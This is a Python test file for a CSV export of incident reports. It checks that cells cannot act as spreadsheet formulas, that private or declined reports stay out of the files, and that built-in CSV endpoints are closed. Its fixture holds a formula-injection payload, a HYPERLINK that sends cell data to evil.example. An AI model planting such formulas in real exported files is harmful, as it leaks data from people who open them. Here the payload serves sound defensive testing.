"""Reports as a file: what stands in it and what does not, and that no spreadsheet runs any of it."""

import csv
import http.client
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from analysis import courier, loading
from analysis.review import exclusions
from analysis.review.people import Reviewer
from analysis.workbench import export
from analysis.workbench.export import safe
from analysis.workbench.selection import Selection
from analysis.workbench.state import State
from tests.analysis.conftest import unlock
from tests.analysis.making import FORM, member, new_desk
from tests.analysis.test_workbench import Browser, browsing

Row = dict[str, str]

# Of a formula, in narrow letters and in wide ones.
BEGINNINGS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1) and 'more';=1+1"
YES = {"quote": ["yes_after_check"]}
GIVEN: tuple[dict[str, list[str]], ...] = (
    {"acts": ["insult", "pat_down"], "station": [FORMULA], "story": [f"{FORMULA}\n@SUM(1)"], **YES},
    {"acts": ["insult"], "area": ["north_side"], "story": ["Private words."], "quote": ["no"]},
    {"acts": [], "area": [], "when.year": ["not_sure"], "when.month": [], "story": ["A twin."], **YES},
    {"story": ["Never counted."], "count": ["no"], **YES},
)


@pytest.fixture(scope="module")
def full_desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A desk with a hostile report, one that is left out and one that may not be counted."""
    folder = tmp_path_factory.mktemp("export")
    desk, server = new_desk(folder)
    bundle = server.bundle(folder, *([member(desk.recipients, **given)] for given in GIVEN))
    loading.load_delivery(desk, courier.receive(desk, bundle), processes=1)
    twin = desk.database.conn.execute("""SELECT "report" FROM "texts" WHERE "text" = 'A twin.'""").fetchone()
    exclusions.exclude(desk, twin, "duplicate", Reviewer.named("Ana"))
    desk.close()
    return desk.path


@pytest.fixture(scope="module")
def browser(full_desk: Path) -> Iterator[Browser]:
    """Somebody who opened it."""
    with browsing(full_desk) as browser:
        yield browser


def ask(browser: Browser, **fields: str) -> tuple[int, http.client.HTTPMessage, str]:
    """Sends the form of the page "Data"."""
    answer = browser.post("/data/export", fields)
    return answer.status, answer.headers, answer.text


def exported(browser: Browser, **fields: str) -> list[Row]:
    """The rows of the file, as Python reads them; no cell begins as a formula does."""
    status, headers, text = ask(browser, open="yes", **fields)
    assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert headers["Content-Disposition"].startswith('attachment; filename="reports-2')
    assert headers["Cache-Control"] == "no-store"
    assert text.startswith("\ufeffreport,")
    # As a spreadsheet in English reads it, and as one in Spanish does.
    for delimiter in ",;\t":
        cells = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter)
        assert not [
            one for row in cells for one in row if one.lstrip(" ").startswith(tuple(BEGINNINGS + "\t\r"))
        ]
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def by_story(rows: list[Row], story: str) -> Row:
    (found,) = [row for row in rows if story in row["story"]]
    return found


def test_each_counted_report_is_a_row_of_codes_and_of_0_and_1(browser: Browser) -> None:
    one, two = sorted(exported(browser), key=lambda row: row["acts"])
    assert (one["acts"], two["acts"]) == ("insult", "insult pat_down")
    assert (two["acts/insult"], two["acts/pat_down"], two["acts/hit_kick"]) == ("1", "1", "0")
    assert (one["acts/pat_down"], one["area"], one["when"]) == ("0", "north_side", "2026-05")
    assert (one["week"], one["channel"], one["setting"]) == ("2026-W46", "web", "police")
    # Nothing ticked is blank, not a row of noughts.
    assert {one[name] for name in one if name.split("/")[0] == "grounds"} == {""}
    codes = [f"acts/{choice.code}" for choice in FORM.question("acts").choices]
    assert [name for name in one if name.startswith("acts/")] == codes


def test_people_s_words_are_left_out_unless_they_are_asked_for(browser: Browser) -> None:
    assert not {"story", "station", "marks"} & exported(browser)[0].keys()
    assert "evil" not in ask(browser, open="yes")[2]


def test_words_of_those_who_said_no_to_quoting_are_in_no_file(browser: Browser) -> None:
    for others in ("", "yes"):
        text = ask(browser, open="yes", words="yes", others=others)[2]
        assert "evil.example" in text
        assert "Private" not in text
        # Left out by organizers: nobody may quote it either.
        assert "twin" not in text


def test_a_formula_is_text_to_every_spreadsheet(browser: Browser) -> None:
    row = by_story(exported(browser, words="yes"), "HYPERLINK")
    assert row["station"] == "'" + FORMULA.replace(";=", ";'=")
    assert row["story"] == row["station"] + "\n'@SUM(1)"


@pytest.mark.parametrize("first", list(BEGINNINGS + "\t\r\n"))
@pytest.mark.parametrize("before", ["", " ", "a;", "a\t", "a\n", "a\r\n "])
def test_no_text_begins_as_a_formula_does(first: str, before: str) -> None:
    written = safe(f"{before}{first}1")
    for part in re.split(r"[;\t\n\r]", written):
        assert not part.lstrip(" ").startswith(tuple(BEGINNINGS))
    assert not written.startswith(("\t", "\r", "\n"))


def test_what_would_turn_the_reading_direction_around_is_shown_by_its_number() -> None:
    assert safe("a\u202eb") == "a\u27e8202E\u27e9b"


def test_reports_left_out_come_with_their_reason_when_asked_for(browser: Browser) -> None:
    rows = exported(browser, others="yes")
    assert sorted(row["left_out"] for row in rows) == ["", "", "duplicate"]
    (twin,) = [row for row in rows if row["left_out"]]
    assert (twin["acts"], twin["acts/insult"], twin["when"]) == ("", "", "not_sure")


def test_who_said_no_to_counting_is_in_no_file(browser: Browser) -> None:
    for more in ({}, {"others": "yes"}, {"others": "yes", "words": "yes"}):
        rows = exported(browser, **more)
        assert {row["count"] for row in rows} == {"yes"}
        assert "Never counted" not in str(rows)


def test_a_file_may_hold_the_reports_of_a_question_alone(browser: Browser) -> None:
    assert [row["area"] for row in exported(browser, query="area=north_side")] == ["north_side"]
    assert exported(browser, query="nothing=known") == []
    page = browser.get("/data?area=north_side").text
    assert 'name="query" value="area=north_side"' in page
    assert re.search(r"n = 1\b", page)


@pytest.mark.parametrize("lang", ["en", "es"])
def test_answers_come_in_the_words_of_either_language(browser: Browser, lang: str) -> None:
    acts = FORM.question("acts")
    labels = {choice.code: choice.label[lang] for choice in acts.choices}
    rows = exported(browser, labels=lang)
    column = acts.label[lang]
    (row,) = [row for row in rows if row[f"{column}/{labels['pat_down']}"] == "1"]
    assert set(row[column].split("; ")) == {labels["insult"], labels["pat_down"]}
    area = FORM.question("area")
    assert {choice.label[lang] for choice in area.choices} >= {row[area.label[lang]]}


@pytest.mark.parametrize("fields", [{}, {"open": "no"}, {"words": "yes"}])
def test_without_the_box_that_says_what_a_file_means_there_is_none(
    browser: Browser, fields: dict[str, str]
) -> None:
    status, headers, text = ask(browser, **fields)
    assert (status, headers["Content-Type"]) == (409, "text/html; charset=utf-8")
    assert "Nothing was changed." in text


@pytest.mark.parametrize(
    "path",
    [
        "/desk/texts.csv",
        "/desk/texts.csv?_stream=on",
        "/desk/texts.csv?_shape=array",
        "/desk/texts.csv?_shape=objects&_size=max",
        "/desk/texts.csv?_header=off&_labels=on",
        "/desk/reports.csv",
        "/desk/answers.csv",
        "/desk/ticks.csv",
        "/desk/texts/1.csv",
        "/desk.csv?sql=select+text+from+texts",
        "/desk.csv?sql=select+text+from+texts&_stream=1",
        "/desk/texts.csv/",
        "/desk/texts%2Ecsv",
        "/desk/texts.CSV",
        "/desk/texts~2Ecsv",
        "/desk/texts?_format=csv",
        "/desk?sql=select+text+from+texts&_format=csv",
        "/desk.csv",
        "/.csv",
    ],
)
def test_datasette_s_own_files_are_closed_however_they_are_asked_for(browser: Browser, path: str) -> None:
    answer = browser.get(path)
    assert not (answer.headers["Content-Type"] or "").startswith("text/csv")
    assert "Content-Disposition" not in answer.headers
    assert answer.status != 200 or answer.text.lower().startswith("<!doctype html>")


def test_the_rows_of_a_large_selection_come_in_pieces(
    full_desk: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = unlock(full_desk)
    state = State(desk)
    monkeypatch.setattr(export, "CHUNK", 1)
    found = export.select(state.connection(), state.snapshot(), Selection(), others=True)
    pieces = list(export.write(state.connection(), state.snapshot(), found, export.Wanted(others=True)))
    assert [piece.count("\r\n") for piece in pieces] == [1, 1, 1, 1]
    state.close()
    desk.close()
